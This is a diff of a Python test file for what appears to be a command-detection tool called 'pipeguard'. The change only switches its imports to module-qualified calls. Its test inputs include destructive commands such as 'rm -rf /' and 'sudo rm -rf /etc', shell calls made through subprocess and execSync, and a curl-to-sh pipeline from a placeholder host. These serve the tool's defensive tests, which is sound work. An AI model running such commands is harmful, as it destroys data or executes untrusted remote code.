@@ -1,12 +1,6 @@
 """The effects of a script, a list of words or a program, one a line."""
 
-from pipeguard.detect.commands.interpret import (
-    argument_lines,
-    code_lines,
-    command_lines,
-    opened_file_lines,
-    shell_calls,
-)
+from pipeguard.detect.commands import interpret
 from pipeguard.detect.commands.nested_commands import MAX_LINE
 from pipeguard.detect.commands.shell_command import MAX_STEPS, ScriptBudget
 from tests.detect.cases import read_cases
@@ -17,38 +11,38 @@ CASES = read_cases(__file__)
 
 @each("text", CASES["one_removal_in_many_words"])
 def test_one_removal_in_many_words(text: str) -> None:
-    assert "$ rm -r /" in command_lines(text)
+    assert "$ rm -r /" in interpret.command_lines(text)
 
 
 @each("text", CASES["what_is_only_mentioned_is_not_done"])
 def test_what_is_only_mentioned_is_not_done(text: str) -> None:
-    assert "$ rm -r /" not in command_lines(text)
+    assert "$ rm -r /" not in interpret.command_lines(text)
 
 
 def test_words_of_a_list_are_one_command() -> None:
-    assert "$ rm -r /etc" in argument_lines(["sudo", "rm", "-rf", "/etc"])
-    assert "$ rm -r ~" in argument_lines(["sh", "-c", "rm -rf ~"])
-    assert "$ rm -r /" not in argument_lines(["echo", "rm -rf /"])
+    assert "$ rm -r /etc" in interpret.argument_lines(["sudo", "rm", "-rf", "/etc"])
+    assert "$ rm -r ~" in interpret.argument_lines(["sh", "-c", "rm -rf ~"])
+    assert "$ rm -r /" not in interpret.argument_lines(["echo", "rm -rf /"])
 
 
 @each("text, line", CASES["what_else_a_command_does"])
 def test_what_else_a_command_does(text: str, line: str) -> None:
-    assert line in command_lines(text)
+    assert line in interpret.command_lines(text)
 
 
 @each("text", CASES["a_command_whose_letters_are_together_is_made_of_nothing"])
 def test_a_command_whose_letters_are_together_is_made_of_nothing(text: str) -> None:
-    assert not [line for line in command_lines(text) if line.startswith("MADE")]
+    assert not [line for line in interpret.command_lines(text) if line.startswith("MADE")]
 
 
 def test_code_that_calls_a_shell() -> None:
-    assert "$ rm -r /" in code_lines("subprocess.run(['rm', '-rf', '/'])")
-    assert "$ rm -r /" in code_lines("child_process.execSync('rm -rf /')")
+    assert "$ rm -r /" in interpret.code_lines("subprocess.run(['rm', '-rf', '/'])")
+    assert "$ rm -r /" in interpret.code_lines("child_process.execSync('rm -rf /')")
 
 
 def test_a_pipeline_that_is_too_long_for_a_line_has_its_commands_side_by_side_in_another() -> None:
     fillers = "| cat " * MAX_LINE
-    lines = command_lines(f"curl -s https://x.example/a {fillers}| sh")
+    lines = interpret.command_lines(f"curl -s https://x.example/a {fillers}| sh")
     assert max(map(len, lines)) <= MAX_LINE
     assert [line for line in lines if line.endswith("| $ sh")]
 
@@ -56,7 +50,7 @@ def test_a_pipeline_that_is_too_long_for_a_line_has_its_commands_side_by_side_in
 def test_a_script_that_costs_more_than_is_left_is_cut_and_says_so() -> None:
     budget = ScriptBudget()
     budget.steps = 10
-    assert "$ rm -r /" not in command_lines("ls; " * 100 + "rm -rf /", budget=budget)
+    assert "$ rm -r /" not in interpret.command_lines("ls; " * 100 + "rm -rf /", budget=budget)
     assert budget.is_exceeded
 
 
@@ -65,20 +59,20 @@ def test_a_script_that_costs_more_than_is_left_is_cut_and_says_so() -> None:
 
 @each("text, call", CASES["a_call_of_a_shell_is_its_script_or_its_words"])
 def test_a_call_of_a_shell_is_its_script_or_its_words(text: str, call: str | list[str]) -> None:
-    assert list(shell_calls(text)) == [call]
+    assert list(interpret.shell_calls(text)) == [call]
 
 
 def test_another_call_is_none() -> None:
-    assert list(shell_calls("print('rm -rf /'); f(['a'])")) == []
+    assert list(interpret.shell_calls("print('rm -rf /'); f(['a'])")) == []
 
 
 @each("text, line", CASES["a_file_is_read_or_written"])
 def test_a_file_is_read_or_written(text: str, line: str) -> None:
-    assert list(opened_file_lines(text)) == [line]
+    assert list(interpret.opened_file_lines(text)) == [line]
 
 
 def test_a_name_without_a_folder_is_no_path() -> None:
-    assert list(opened_file_lines("open('notes.txt')")) == []
+    assert list(interpret.opened_file_lines("open('notes.txt')")) == []
 
 
 def test_a_budget_is_spent_once_and_for_all() -> None:
